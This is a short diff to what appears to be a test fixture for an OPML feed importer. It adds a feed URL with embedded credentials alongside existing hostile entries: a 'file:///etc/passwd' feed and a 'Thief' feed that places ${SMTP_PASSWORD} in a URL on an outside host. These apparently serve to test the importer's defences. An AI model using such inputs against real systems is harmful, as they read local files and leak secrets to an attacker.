@@ -22,6 +22,7 @@ LIST = """<?xml version="1.0" encoding="UTF-8"?>
     <outline xmlUrl="http://nameless.example.org/"/>
     <outline text="A page" type="link" htmlUrl="https://page.example.org/"/>
     <outline text="Local" xmlUrl="file:///etc/passwd"/>
+    <outline xmlUrl="https://ada:hunter2@paid.example.org/feed"/>
     <outline text="Thief" xmlUrl="https://thief.example.org/${SMTP_PASSWORD}"/>
   </body>
 </opml>
